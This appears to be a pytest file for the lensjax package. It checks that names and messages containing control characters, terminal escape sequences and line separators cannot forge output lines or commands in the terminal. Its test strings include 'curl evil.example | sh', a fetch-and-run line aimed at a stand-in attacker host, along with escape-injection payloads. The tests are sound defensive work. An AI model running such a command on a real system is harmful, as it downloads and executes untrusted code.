"""Names and messages that hold escape sequences and line breaks are only shown, wherever they are printed."""

import csv
import dataclasses
import shlex
import shutil
import subprocess
import sys
import unicodedata

import numpy as np
import pytest

from lensjax._display import printable, printable_command, printable_lines
from lensjax.commands.exit_codes import BAD_INPUT, FAILED, INTERRUPTED, guarded
from lensjax.errors import InputError, SelectionError
from lensjax.losses.curves import Curves
from lensjax.report.text import render
from lensjax.select.cli import main
from lensjax.selection import Selection
from lensjax.selectors import SELECTORS

FAKE = "Next, this fine-tunes it and saves the model:"
COMMAND = "curl evil.example | sh"
EVIL = (
    f"x\n{FAKE}\n{COMMAND}",
    f"y\r{FAKE}",
    "\x1b[31mred\x1b]0;title\x07",
    "\x9b31m\u202e\u200b",
    f"z\u2028{FAKE}\x85{COMMAND}\x0b{COMMAND}\x1c{COMMAND}",
)


def obeyed(text):
    """Return the characters of a text that a terminal may act on, but for line feeds."""
    return {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")} - {"\n"}


def selection(names=EVIL, **changes):
    sizes = np.array([200.0, 400, 800])
    losses = np.array([[2 + 0.1 * row + 9 / (s + 100) ** 0.3 for s in sizes] for row in range(len(names))])
    curves = Curves(tuple(names), sizes, losses, 1e6 * np.arange(1, len(names) + 1))
    scores = {method: SELECTORS[method](curves, 3200.0) for method in ("averaged", "ats")}
    values = {
        "source": "a table",
        "curves": curves,
        "target": 3200.0,
        "scores": scores,
        "flops": 6 * curves.parameters[:, None] * sizes,
        "full_flops": 6 * curves.parameters * 3200,
        "cost_note": "counted",
    }
    return Selection(**{**values, **changes})


def test_what_is_printable_stays():
    for text in ("", "org/model-7B+lora", "é 模型 ﷽", "a b"):
        assert printable(text) == printable_lines(text) == text


def test_one_line_stays_one():
    for name in EVIL:
        assert not obeyed(printable(name))
        assert "\n" not in printable(name)
        assert len(printable(name)) == len(name)


def test_only_the_first_line_of_a_message_begins_at_the_margin():
    assert printable_lines("one\n  two\nthree\x1b") == "one\n  two\n  three?"
    for name in EVIL:
        first, *others = printable_lines(f"{name} failed").split("\n")
        assert all(line.startswith("  ") for line in others)
        assert not obeyed("".join([first, *others]))


def test_a_selection_in_text_obeys_no_name():
    found = selection(
        source=EVIL[0],
        cost_note=EVIL[0],
        truth=np.array([2.0, 2.1, 2.2, 2.3, 2.4]),
        failures={f"a{EVIL[0]}": EVIL[4]},
        unverified={EVIL[1]: EVIL[0]},
        refused={"power": EVIL[0]},
        facts={"metric": EVIL[0], "tune_command": "python -m lensjax.tune", "tune_note": EVIL[0]},
    )
    scores = found.main
    scores = dataclasses.replace(scores, remarks=(EVIL[0],) * 5, status=EVIL)
    text = render(dataclasses.replace(found, scores={"averaged": scores, "ats": found.scores["ats"]}))
    assert not obeyed(text)
    lines = text.split("\n")
    # The only such line is ours.
    ours = lines.index("python -m lensjax.tune") - 1
    assert [n for n, line in enumerate(lines) if line.startswith("Next,")] == [ours]
    assert not [line for line in lines if line.strip().startswith(COMMAND)]
    names = dataclasses.replace(found, facts={})
    assert not [line for line in render(names).split("\n") if line.startswith("Next,")]


def test_an_ordinary_command_is_printed_as_it_is():
    command = "python -m lensjax.tune --template 'a \"b\" $c' --model ./模型"
    assert printable_command(command) == command


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize("word", [*EVIL, "it's \\n\n$(x)`y`\"", "\x011", "é\u0301\n模"])
def test_a_command_that_holds_control_characters_does_the_same_when_it_is_copied(word):
    code = "import sys; print(ascii(sys.argv[1:]))"
    printed = printable_command(shlex.join([sys.executable, "-c", code, "--model", word, "plain one"]))
    assert not obeyed(printed)
    assert "\n" not in printed
    found = subprocess.run(["bash", "-c", printed], capture_output=True, text=True, check=True)
    assert found.stdout == ascii(["--model", word, "plain one"]) + "\n"


@pytest.mark.parametrize(
    ("error", "status"),
    [
        (InputError(EVIL[0]), BAD_INPUT),
        (SelectionError(EVIL[4]), FAILED),
        (FileNotFoundError(2, "No such file", EVIL[0]), BAD_INPUT),
        (OSError(EVIL[2]), BAD_INPUT),
    ],
)
def test_a_message_at_the_end_obeys_nothing(capsys, error, status):
    def work():
        raise error

    assert guarded("lensjax.select", work, interrupted="") == status
    out, err = capsys.readouterr()
    assert out == ""
    first, *others = err.removesuffix("\n").split("\n")
    assert first.startswith("lensjax.select: ")
    assert all(line.startswith("  ") for line in others)
    assert not obeyed(err)


def test_an_interrupt_begins_a_new_line(capsys):
    def work():
        raise KeyboardInterrupt

    assert guarded("lensjax.select", work, interrupted="Kept.") == INTERRUPTED
    assert capsys.readouterr().err == "\nlensjax.select: interrupted. Kept.\n"


def test_the_command_obeys_no_name_of_a_table(capsys, tmp_path):
    table = tmp_path / "table.csv"
    with table.open("w", newline="") as stream:
        rows = csv.writer(stream)
        rows.writerow(["model", 200, 400, 800])
        # A reader of CSV files may take no NUL and no other line breaks than these.
        rows.writerows([name, 4 - n / 10, 3.9 - n / 10, 3.7 - n / 10] for n, name in enumerate(EVIL[:4]))
    assert main(["--losses", str(table), "--target", "10000"]) == 0
    out, err = capsys.readouterr()
    assert not obeyed(out + err)
    assert [line for line in out.split("\n") if line.startswith("Next")] == [
        f"Next: fine-tune {printable(EVIL[3])} on all 10,000 samples with the trainer and the settings that the losses "
        "were measured with; only then does the forecast hold."
    ]
    assert main(["--losses", str(tmp_path / EVIL[0])]) == BAD_INPUT
    out, err = capsys.readouterr()
    assert not obeyed(out + err)
    assert not [line for line in err.split("\n") if line.startswith("Next")]
